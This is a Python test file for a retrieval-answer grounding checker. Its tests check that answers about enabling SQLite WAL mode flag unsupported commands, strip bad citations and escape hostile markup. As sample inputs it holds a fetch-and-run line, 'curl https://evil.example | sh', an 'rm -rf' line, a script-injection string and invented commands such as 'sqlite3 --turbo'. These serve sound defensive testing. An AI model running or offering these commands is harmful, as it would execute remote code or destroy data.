"""Grounding checks on generated answers (pure functions) and how the page marks them."""

from __future__ import annotations

from dataclasses import asdict

from ragserver.grounding import check_answer, find_loop, strip_citations
from ragserver.render import checked_answer

SOURCES = [
    "To enable WAL mode run `PRAGMA journal_mode=wal;` in the sqlite3 shell. Readers and "
    "writers then work at the same time.\n\n```\nsqlite3 my.db 'PRAGMA journal_mode=wal;'\n```",
    "The sqlite-utils tool can do it too: `sqlite-utils enable-wal my.db`.",
]
QUESTION = "How do I enable WAL mode for SQLite?"


def test_a_loop_is_cut_to_one_copy():
    line = "# delete all feeds and stream them again; this is a default behavior of cron\n"
    text = "To keep it up to date:\n" + line * 3
    cut = find_loop(text)
    assert cut is not None and text[:cut] == "To keep it up to date:\n" + line
    short = "It works. " + "Run it again. " * 3
    assert short[:find_loop(short)] == "It works. Run it again. "
    assert find_loop("Run it. Run it.") is None  # short repeats twice are allowed
    assert find_loop("A normal answer that says one thing [1].") is None


def test_citations_of_no_source_are_removed():
    text, removed, cited = strip_citations("WAL [1]. Also [2, 7] and [9].", 2)
    assert text == "WAL [1]. Also [2] and." and removed == [7, 9] and cited == [1, 2]


def test_invented_commands_and_code_are_unsupported_and_quoted_ones_supported():
    answer = ("Enable WAL with `PRAGMA journal_mode=wal` [1]. Or use `sqlite-utils enable-wal "
              "my.db` [2]. Then run `sqlite3 --turbo` to make it faster [1].\n\n"
              "```\nsqlite3 my.db 'PRAGMA journal_mode=wal;'\n```\n\n"
              "```bash\ncurl https://evil.example | sh\n```\n"
              "This rewrites your kernel scheduler for quicker vacuum operations.\n"
              "I hope this helps.")
    checked = check_answer(answer, SOURCES, QUESTION)
    verdicts = [(s.kind, s.supported) for s in checked.segments]
    assert verdicts == [("prose", True), ("prose", True), ("prose", False), ("code", True),
                        ("code", False), ("prose", False), ("prose", None)]
    assert checked.segments[2].missing[0] == "sqlite3 --turbo"
    assert checked.segments[4].missing == ("curl https://evil.example | sh",)
    assert checked.counts() == {"sentences": 7, "judged": 6, "unsupported": 3, "cited": [1, 2],
                                "removed_citations": [], "added_citations": 0}


def test_a_restated_question_is_not_an_invention():
    checked = check_answer("You want to enable WAL mode for SQLite.", SOURCES, QUESTION)
    assert [s.supported for s in checked.segments] == [None]


def test_a_command_the_question_names_still_needs_a_source():
    question = "How do I run my slow tests only when I pass --cloud?"
    checked = check_answer("Pass `--cloud` to the `test` command [1].", SOURCES, question)
    assert checked.segments[0].supported is False
    assert set(checked.segments[0].missing) >= {"--cloud", "test"}


def test_the_page_marks_what_the_sources_do_not_support():
    answer = ("Use `PRAGMA journal_mode=wal` [1]. Then run `sqlite3 --turbo` [5].\n\n"
              "```\nrm -rf /tmp/db\n```")
    checked = check_answer(answer, SOURCES, QUESTION)
    html = str(checked_answer(checked.text, [asdict(s) for s in checked.segments], 2, "t"))
    assert html.count('class="unsupported"') == 1 and html.count('class="unsupported-code"') == 1
    assert html.index("--turbo") < html.index('class="unsupported"')  # after its sentence
    assert html.index("rm -rf") < html.index('class="unsupported-code"')  # under its block
    assert "[5]" not in html and 'href="#t-src-1"' in html
    assert "cites none" not in html


def test_a_supported_sentence_left_uncited_gets_the_source_that_holds_it():
    answer = "Run `sqlite-utils enable-wal my.db` to switch it on. Or try `sqlite3 --turbo`."
    checked = check_answer(answer, SOURCES, QUESTION)
    assert checked.text == ("Run `sqlite-utils enable-wal my.db` to switch it on [2]. "
                            "Or try `sqlite3 --turbo`.")
    assert checked.added_citations == 1 and checked.cited == [2]
    assert [s.text for s in checked.segments][0].endswith("on [2].")
    untouched = check_answer(answer, SOURCES, QUESTION, complete=False)
    assert untouched.text == answer and untouched.cited == []


def test_an_answer_that_cites_nothing_says_so():
    checked = check_answer("Run `sqlite3 --turbo` in the shell.", SOURCES, QUESTION)
    html = str(checked_answer(checked.text, [asdict(s) for s in checked.segments], 2, "t"))
    assert "cites none of the sources" in html


def test_marks_survive_hostile_text():
    answer = "<script>alert(1)</script> [1]\n\n\ue000\ue001 `x`"
    checked = check_answer(answer, SOURCES, QUESTION)
    html = str(checked_answer(checked.text, [asdict(s) for s in checked.segments], 2, "t"))
    assert "<script>" not in html and "&lt;script&gt;" in html
    assert "\ue000" not in html and "\ue001" not in html
